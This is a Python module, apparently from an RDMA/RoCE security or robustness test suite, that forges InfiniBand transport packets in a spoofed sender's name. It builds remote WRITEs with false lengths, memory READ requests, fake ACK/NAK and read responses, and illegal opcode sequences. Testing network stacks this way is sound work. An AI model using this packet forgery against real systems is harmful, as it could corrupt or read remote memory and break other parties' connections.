# SPDX-License-Identifier: GPL-2.0
"""Forged plain packets: right in every byte an observer can know."""

from dataclasses import dataclass, replace

from . import packet as pk

ACK_SYNDROME = 0x1F  # ACK, credits not given
NAKS = {
    "sequence": 0x60,
    "invalid": 0x61,
    "access": 0x62,
    "operational": 0x63,
    "rnr": 0x21,
}


@dataclass
class Target:
    """The end under attack, as the attacker sees it, and whose name is taken in vain."""

    path: pk.Path
    qpn: int
    psn: int = 0  # expected next from the pretended sender
    service: int = pk.RC
    va: int = 0
    rkey: int = 0

    @classmethod
    def from_info(cls, info, src_mac, dst_mac):
        """From the JSON a --hold end prints: that end is the target."""
        local, remote = info["local"], info["remote"]
        path = pk.Path(
            src_mac, dst_mac, pk.gid_to_ip(remote["gid"]), pk.gid_to_ip(local["gid"])
        )
        return cls(
            path=path,
            qpn=local["qpn"],
            psn=remote["psn"],
            service={"rc": pk.RC, "uc": pk.UC, "ud": pk.UD}[info["qp"]],
            va=local["va"],
            rkey=local["rkey"],
        )

    def at(self, psn):
        """The same with another PSN."""
        return replace(self, psn=psn & 0xFFFFFF)

    def bth(self, op, **more):
        """A BTH for the target; @op without the service's bits."""
        return pk.Bth(opcode=self.service | op, qpn=self.qpn, psn=self.psn, **more)


def write(target, data, offset=0, rkey=None, length=None, op=pk.WRITE_ONLY):
    """An RDMA WRITE of one packet; @length other than the data's for a lie in the RETH."""
    ext = pk.reth(
        target.va + offset,
        target.rkey if rkey is None else rkey,
        len(data) if length is None else length,
    )
    if op == pk.WRITE_ONLY_IMM:
        ext += b"\xde\xad\xbe\xef"
    return pk.plain(target.path, target.bth(op, ack=target.service == pk.RC), ext, data)


def send(target, data, imm=None):
    """A SEND of one packet, with an immediate if given."""
    op, ext = (pk.SEND_ONLY, b"") if imm is None else (pk.SEND_ONLY_IMM, imm)
    return pk.plain(target.path, target.bth(op, ack=target.service == pk.RC), ext, data)


def datagram(target, data, qkey, source_qpn):
    """A datagram; the target's service does not matter."""
    bth = pk.Bth(opcode=pk.UD | pk.SEND_ONLY, qpn=target.qpn, psn=target.psn)
    return pk.plain(target.path, bth, pk.deth(qkey, source_qpn), data)


def read_request(target, length, offset=0):
    """A READ of the target's memory; the answer goes to whose name is taken."""
    ext = pk.reth(target.va + offset, target.rkey, length)
    return pk.plain(target.path, target.bth(pk.READ_REQUEST, ack=True), ext)


def nak(target, kind, msn=0):
    """A NAK for the request at the target's PSN."""
    return pk.plain(target.path, target.bth(pk.ACKNOWLEDGE), pk.aeth(NAKS[kind], msn))


def ack(target, msn=0):
    """An ACK up to the target's PSN."""
    return pk.plain(target.path, target.bth(pk.ACKNOWLEDGE), pk.aeth(ACK_SYNDROME, msn))


def read_response(target, data, mtu=1024, msn=0):
    """READ response packets from the target's PSN on."""
    parts = [data[i : i + mtu] for i in range(0, len(data), mtu)] or [b""]
    frames = []
    for n, part in enumerate(parts):
        first, last = n == 0, n == len(parts) - 1
        if first and last:
            op = pk.READ_RESPONSE_ONLY
        elif first:
            op = pk.READ_RESPONSE_FIRST
        else:
            op = pk.READ_RESPONSE_LAST if last else pk.READ_RESPONSE_MIDDLE
        ext = b"" if op == pk.READ_RESPONSE_MIDDLE else pk.aeth(ACK_SYNDROME, msn)
        frames.append(pk.plain(target.path, target.at(target.psn + n).bth(op), ext, part))
    return frames


def atomic_response(target, value, msn=0):
    """The answer to an atomic."""
    ext = pk.aeth(ACK_SYNDROME, msn) + value.to_bytes(8, "big")
    return pk.plain(target.path, target.bth(pk.ATOMIC_ACKNOWLEDGE), ext)


def illegal_order(target, data):
    """(name, frames): sequences of opcodes no requester may send, one packet of each PSN."""
    reth = pk.reth(target.va, target.rkey, 2 * len(data))

    def one(op, n=0, ext=b""):
        return pk.plain(target.path, target.at(target.psn + n).bth(op), ext, data)

    yield "middle-without-first", [one(pk.WRITE_MIDDLE)]
    yield "last-without-first", [one(pk.SEND_LAST)]
    yield "send-inside-write", [one(pk.WRITE_FIRST, 0, reth), one(pk.SEND_MIDDLE, 1)]
    yield "only-inside-send", [one(pk.SEND_FIRST), one(pk.SEND_ONLY, 1)]
    yield "read-inside-write", [
        one(pk.WRITE_FIRST, 0, reth),
        read_request(target.at(target.psn + 1), 8),
    ]


def wrong_length(target, data):
    """(name, frames): a RETH that does not fit the payload."""
    n = len(data)
    yield "reth-longer", [write(target, data, length=n + 4)]
    yield "reth-shorter", [write(target, data, length=max(n - 4, 0))]
    yield "reth-huge", [write(target, data, length=0x80000001)]
    yield "first-not-mtu", [write(target, data, length=2 * n, op=pk.WRITE_FIRST)]
